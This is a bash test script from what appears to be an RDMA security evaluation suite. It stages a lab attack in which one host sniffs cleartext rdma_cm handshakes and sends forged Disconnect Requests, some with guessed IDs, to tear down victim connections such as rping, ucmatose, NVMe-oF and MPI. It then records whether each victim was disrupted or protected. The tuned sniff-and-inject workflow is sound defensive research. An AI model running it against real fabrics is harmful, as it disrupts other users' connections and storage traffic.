# SPDX-License-Identifier: MIT
# NeVerMore 4.3 (cm-disconnect): the attacker on host 3 listens on the bridge
# before the victim starts, learns the communication IDs and QPNs of the
# client's rdma_cm connection from its cleartext CM REQ and REP, and sends the
# client (host 2) a Disconnect Request as if from the server. Victims without
# rdma_cm show no REQ/REP; the attacker then aims DREQs with the wire's QPN and
# made-up IDs at the server's host and the victim must carry on undisturbed.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

# cell_cm_blind VICTIM: what to report for a victim without rdma_cm.
cell_cm_blind() {
	local v=$1 line
	victim_wire_bth || true
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_SERVER_IP" --src "$VICTIM_CLIENT_IP" \
		--local-comm-id 0x1 --remote-comm-id 0x2 --remote-qpn "${WIRE_QPN:-0x11}" --count 20 \
		--iface fab3 --json >"$CELL/blind.json" 2>>"$CELL/attack.err"
	victim_attack_done
	victim_wait 15
	case "$v" in
	mpi-rdmasec)
		if line=$(mpi_victim_line) && grep -q '"sent":20,"ok":true' "$CELL/blind.json"; then
			matrix_result cm-disconnect "$v" blocked "no rdma_cm; disconnect only over authenticated TLS" \
				"$line (no CM REQ/REP on the wire; 20 forged DREQs sent to rank 0's host)"
		else
			matrix_result cm-disconnect "$v" error "" "the job did not complete: $line"
		fi
		;;
	rdmasec)
		if line=$(victim_grep "$VICTIM_CLIENT_LOG" 'reply: after the attack') &&
			grep -q '"sent":20,"ok":true' "$CELL/blind.json"; then
			matrix_result cm-disconnect "$v" blocked "no rdma_cm; disconnect only over authenticated TLS" \
				"[h2] $line (no CM REQ/REP on the wire; 20 forged DREQs sent to the server's host)"
		else
			matrix_result cm-disconnect "$v" error "" "session did not complete: $(tail -n 1 "$VICTIM_CLIENT_LOG")"
		fi
		;;
	*)
		matrix_result cm-disconnect "$v" not-applicable "no rdma_cm: parameters over a TCP exchange, no CM to disconnect" \
			"no CM REQ/REP on the wire: $(sed -n 's/.*"cm_messages":\([0-9]*\).*/\1/p' "$CELL/learn.json" 2>/dev/null) CM messages seen"
		;;
	esac
}

# _cell_cm_order: after the forged DREQ (sent to the client), polls the
# victim's logs for up to $1 seconds and decides which side began to end the
# connection first. The client's disconnect counts only if its server, the
# only legitimate sender of a DREQ, still runs and has not begun to end the
# connection itself. Sets CELL_CM_CLIENT ('' if the client showed nothing) and
# CELL_CM_SERVER (what the server had shown by then, '' if nothing) and
# CELL_CM_AT (SECONDS when the client showed it); returns 0 when the client
# went first.
#   rping: the client prints "client DISCONNECT EVENT" (its CM thread reads
#   events at once); the server would print its own DISCONNECT or an error.
#   ucmatose: reads CM events only after its transfers, then answers a
#   DISCONNECTED with rdma_disconnect and exits ("test complete"); its server
#   sends the only real DREQ after it received every reply ("data transfers
#   complete"), so a client that ends before that line took a forged one.
_cell_cm_order() {
	local end=$((SECONDS + $1)) cre sre
	case "$VICTIM" in
	rping) cre='client DISCONNECT EVENT' sre='server DISCONNECT EVENT|rping server failed|cq completion failed|wait for' ;;
	*) cre='^test complete' sre='data transfers complete|cmatose: disconnecting|^test complete' ;;
	esac
	CELL_CM_CLIENT='' CELL_CM_SERVER=''
	while [ $SECONDS -lt $end ]; do
		# The client first, then the server: a server line still absent
		# after the client's was seen was not written before it.
		CELL_CM_CLIENT=$(victim_grep "$VICTIM_CLIENT_LOG" "$cre") && CELL_CM_AT=$SECONDS
		CELL_CM_SERVER=$(victim_grep "$VICTIM_SERVER_LOG" "$sre") ||
			{ kill -0 "$VICTIM_SERVER_PID" 2>/dev/null || CELL_CM_SERVER="server ended"; }
		[ -n "$CELL_CM_CLIENT" ] || [ -n "$CELL_CM_SERVER" ] && break
		sleep 0.1
	done
	[ -n "$CELL_CM_CLIENT" ] && [ -z "$CELL_CM_SERVER" ]
}

# _cell_cm_connected: host 2's connected rdma_cm ids, "SRC -> DST" a line.
_cell_cm_connected() {
	rdma resource show cm_id 2>/dev/null | tee -a "$CELL/cm_ids.log" | grep " state CONNECT " |
		grep " src-addr $VICTIM_CLIENT_IP:" | sed -n 's/.* src-addr \([^ ]*\) dst-addr \([^ ]*\).*/\1 -> \2/p'
}

# mpi-verbs: rank 1's connection (host 2) took the forged DREQ when a
# connected rdma_cm id seen before it is no longer connected, or the job
# broke, within 20 s, while rank 0 (the only legitimate sender of a DREQ)
# still ran. The evidence says what became of the stream (rank 1's progress
# lines, 3 s apart).
_cell_cm_mpi() {
	local end=$((SECONDS + 20)) b='' gone='' c p1 p2 what
	while [ $SECONDS -lt $end ]; do
		b=$(cell_mpi_broken) && break
		c=$(_cell_cm_connected)
		gone=$(grep -vxF -f <(printf '%s\n' "$c") <<<"$CELL_CM_BEFORE" | head -n 1)
		[ -n "$CELL_CM_BEFORE" ] && [ -n "$gone" ] && break
		sleep 0.2
	done
	p1=$(grep -c '^progress:' "$VICTIM_CLIENT_LOG")
	[ -n "$b" ] || { sleep 3; b=$(cell_mpi_broken); }
	p2=$(grep -c '^progress:' "$VICTIM_CLIENT_LOG")
	victim_attack_done
	victim_stop
	what="rank 1"
	[ -z "$gone" ] || what="rank 1's rdma_cm connection $gone torn down"
	if [ -n "$b" ] || [ -n "$gone" ]; then
		matrix_result cm-disconnect "$VICTIM" succeeded "" \
			"[h2] $what after the forged DREQ, rank 0 still running; the job: ${b:-$([ "$p2" -gt "$p1" ] && echo "went on over a new connection" || echo "no round trip in the next 3 s (rank 1 at $((p1 * 100))+)")}"
	else
		matrix_result cm-disconnect "$VICTIM" error "" "the forged DREQ changed nothing seen in 20 s (connected before: ${CELL_CM_BEFORE:-none seen}); $(mpi_victim_line)"
	fi
}

# nvmf: the host (host 2) took the forged DREQ when it began error recovery
# although the target had logged nothing that would end the connection
# (its own disconnect or a fatal error would come first).
_cell_cm_nvmf() {
	local h t ht tt ev
	cell_nvmf_recovery
	victim_attack_done
	h=$(victim_grep "$VICTIM_NVMF_HOST_LOG" 'error recovery|Reconnecting')
	t=$(victim_grep "$VICTIM_SERVER_LOG" "$CELL_NVMF_HIT")
	ht=$(sed -n 's/^\[ *\([0-9.]*\)\].*/\1/p' <<<"$h") tt=$(sed -n 's/^\[ *\([0-9.]*\)\].*/\1/p' <<<"$t")
	ev=$(cell_nvmf_reaction)
	victim_stop
	if [ -n "$h" ] && { [ -z "$t" ] || awk -v h="$ht" -v t="$tt" 'BEGIN { exit !(h + 0 < t + 0) }'; }; then
		matrix_result cm-disconnect nvmf succeeded "" \
			"forged DREQ to host 2: [h2] ${ev#*\[h2\] }; [h1] had logged no error before"
	else
		matrix_result cm-disconnect nvmf error "" "undecided: DREQ sent; ${ev:-the host logged no recovery}"
	fi
}

cell_cm_disconnect() {
	local v=$1 lp n st t0 delay=0 listen=8 opts=()
	# rping: let the pings start. ucmatose: from the REP on, a DREQ every
	# 0.1 s for 0.5 s: the client's CM drops one that beats its own RTU, and
	# takes the first after it, long before the client's receive phase (128
	# MiB) ends and it reads its CM events; later ones are duplicates.
	# Only the cell ends these victims (a server stopped by its timeout
	# would disconnect its client as the forged DREQ does); ucmatose's
	# receive phase took from 2 s to over 30 s, depending on the machine's load.
	# The attacker listens 30 s for an rdma_cm victim's REQ/REP (a loaded
	# guest may take that long to start one), 8 s for the others: their
	# sessions must still be running when the blind DREQs go out.
	case "$v" in
	rping) delay=1000 listen=30 VICTIM_SECONDS=40 ;;
	ucmatose) opts=(--count 5 --interval-us 100000) listen=30 VICTIM_SECONDS=80 ;;
	# nvmf: the host connects after the target's set-up; fio runs within 5 s of its REP.
	nvmf) delay=5000 listen=40 VICTIM_SECONDS=60 ;;
	# MPI: the DREQ once messages flow (at once, it kills rank 1 before its first); the job outlives it.
	# rdmasec's set-up shows no REQ/REP: the blind DREQs go once its messages flow.
	mpi-verbs) delay=5000 listen=40 VICTIM_SECONDS=60 ;;
	mpi-rdmasec) listen=20 VICTIM_SECONDS=60 ;;
	esac
	rm -f "$CELL/learn.json" "$CELL/learn.err"
	# Listen first: the REQ/REP go by while victim_start waits for traffic.
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout $listen \
		--delay-ms $delay "${opts[@]}" --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
	lp=$!
	for _ in $(seq 1 50); do grep -q listening "$CELL/learn.err" 2>/dev/null && break; sleep 0.1; done
	victim_start "$v" || {
		matrix_result cm-disconnect "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"
		kill "$lp" 2>/dev/null; wait "$lp" 2>/dev/null; victim_stop; return
	}
	# MPI: rank 1's connected rdma_cm ids before the forged DREQ (the attacker waits 5 s after the REP).
	[ "$v" = mpi-verbs ] && CELL_CM_BEFORE=$(_cell_cm_connected)
	wait "$lp"
	if ! grep -q '"learned":true' "$CELL/learn.json" && [ "$v" = nvmf ]; then
		victim_stop
		matrix_result cm-disconnect nvmf error "" "the attacker learned no rdma_cm REQ/REP within $listen s: $(tail -n 1 "$CELL/learn.err")"
		return
	fi
	if ! grep -q '"learned":true' "$CELL/learn.json"; then
		cell_cm_blind "$v"
		return
	fi
	t0=$SECONDS
	echo "cm-disconnect: $(cat "$CELL/learn.json")" >&2
	if [ "$v" = nvmf ]; then
		_cell_cm_nvmf
		return
	fi
	if [ "$v" = mpi-verbs ]; then
		_cell_cm_mpi
		return
	fi
	# What the attacked side's CM made of the DREQ, before the victim ends.
	rdma resource show cm_id 2>/dev/null | grep "src-addr $VICTIM_CLIENT_IP:" >"$CELL/cm_ids.txt"
	st=$(sed -n 's/.* state \([A-Z_]*\) .*/\1/p' "$CELL/cm_ids.txt" | sort -u | tr '\n' ' ')
	st=${st% }
	# ucmatose: logs read after that snapshot. A client still receiving and a
	# server that has not begun to disconnect mean the DISCONNECT state came
	# from the forged DREQ (the client's own rdma_disconnect comes after its
	# transfer, the server's DREQ after "cmatose: disconnecting").
	mid=0
	[ "$v" = ucmatose ] && [ "$st" = DISCONNECT ] && ! grep -q 'sending replies' "$VICTIM_CLIENT_LOG" &&
		! grep -Eq 'data transfers complete|cmatose: disconnecting' "$VICTIM_SERVER_LOG" && mid=1
	echo "cm-disconnect: client cm_id ${st:-gone}, mid-transfer DISCONNECT: $mid" >&2
	# ucmatose: only a client that got through its own transfer counts (a
	# failed connect also ends in "test complete").
	if _cell_cm_order 60 && { [ "$v" = rping ] || grep -q 'sending replies' "$VICTIM_CLIENT_LOG"; }; then
		n=$(grep -c 'ping data' "$VICTIM_CLIENT_LOG")
		victim_attack_done
		victim_stop
		case "$v" in
		rping)
			matrix_result cm-disconnect "$v" succeeded "" \
				"[h2] $CELL_CM_CLIENT after $n of 1000000 pings, $((CELL_CM_AT - t0)) s after the forged DREQ, while [h1] still ran and had not disconnected"
			;;
		*)
			matrix_result cm-disconnect "$v" succeeded "" \
				"[h2] client cm_id ${st:-gone} after the forged DREQ; it ended (test complete) before [h1] got its replies (last: $(tail -n 1 "$VICTIM_SERVER_LOG"))"
			;;
		esac
		return
	fi
	victim_attack_done
	victim_stop
	echo "cm-disconnect: client: '${CELL_CM_CLIENT}', server: '${CELL_CM_SERVER}'" >&2
	# Both sides ended within one look (on an idle machine its server can
	# finish as the client goes): the snapshot still shows the forged DREQ
	# taken mid-transfer, and the client acting on it.
	if [ $mid = 1 ] && grep -q 'sending replies' "$VICTIM_CLIENT_LOG" && grep -q '^test complete' "$VICTIM_CLIENT_LOG"; then
		matrix_result cm-disconnect "$v" succeeded "" \
			"[h2] client cm_id DISCONNECT while still receiving, before [h1] began to disconnect: its CM took the forged DREQ; it then ended (test complete)"
		return
	fi
	matrix_result cm-disconnect "$v" error "" \
		"undecided: DREQ sent (client cm_id ${st:-gone} after it); client showed '${CELL_CM_CLIENT:-nothing}', server '${CELL_CM_SERVER:-nothing}' first"
}
